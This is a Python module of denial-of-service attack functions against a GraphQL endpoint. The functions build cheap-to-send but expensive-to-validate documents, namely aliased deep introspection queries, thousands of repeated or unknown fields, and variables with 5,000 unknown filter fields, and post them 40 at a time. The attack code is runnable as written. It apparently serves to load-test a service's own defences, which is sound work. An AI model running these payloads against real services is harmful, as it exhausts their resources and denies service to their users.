"""Attacks of one anonymous client with GraphQL documents that are small but take long to validate or to execute.

Each attack is a function of the URL of the service. It returns the status codes of the responses, 0 if there was none.
"""

from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor

import httpx

CONCURRENCY = 40
_TIMEOUT = 120.0  # seconds
_DEEP_SELECTION = (
    "inputFields{type{kind name description specifiedByURL isOneOf a:description b:description c:description}"
    "name description defaultValue isDeprecated deprecationReason}"
)
_INTROSPECTION_ALIASES = 33
_REPEATED_FIELDS = 4_990
_UNKNOWN_FIELDS = 1_650
_UNKNOWN_INPUT_FIELDS = 5_000


def aliased_introspection(url: str) -> list[int]:
    """Send 5.7 kB of introspection with many aliases in 40 requests. All documents are distinct: no cache holds them."""
    aliases = "".join(f"x{number}:{_DEEP_SELECTION}" for number in range(_INTROSPECTION_ALIASES))
    return _send(url, (_body(f"{{m{number}:__schema{{types{{inputFields{{type{{{aliases}}}}}}}}}}}") for number in range(40)))


def repeated_fields(url: str) -> list[int]:
    """Send 200 documents of 10 kB that repeat one unknown field."""
    fields = "a " * _REPEATED_FIELDS
    return _send(url, (_body(f"{{b{number} {fields}}}") for number in range(200)))


def unknown_fields(url: str) -> list[int]:
    """Send 200 documents of 10 kB with distinct unknown fields, each of which is similar to a known one."""
    fields = " ".join(f"task{number}" for number in range(_UNKNOWN_FIELDS))
    return _send(url, (_body(f"{{m{number}:__typename {fields}}}") for number in range(200)))


def unknown_input_fields(url: str) -> list[int]:
    """Send variables with 5,000 unknown fields of a filter, 10 times."""
    document = "query($f: TaskFilter) { __typename tasks(filter: $f) { totalCount } }"
    fields = ",".join(f'"completed{number}":1' for number in range(_UNKNOWN_INPUT_FIELDS))
    body = f'{{"query":"{document}","variables":{{"f":{{{fields}}}}}}}'
    return _send(url, [body] * 10)


def _body(document: str) -> str:
    return f'{{"query":"{document}"}}'


def _send(url: str, bodies: Iterable[str]) -> list[int]:
    """Post the bodies with at most CONCURRENCY requests at a time, and return the status codes in the order of the bodies."""
    limits = httpx.Limits(max_connections=CONCURRENCY)
    headers = {"Content-Type": "application/json", "Accept": "application/graphql-response+json"}
    with httpx.Client(timeout=_TIMEOUT, limits=limits, headers=headers) as client, ThreadPoolExecutor(CONCURRENCY) as threads:

        def send(body: str) -> int:
            try:
                return client.post(f"{url}/graphql", content=body).status_code
            except httpx.HTTPError:
                return 0

        return list(threads.map(send, bodies))
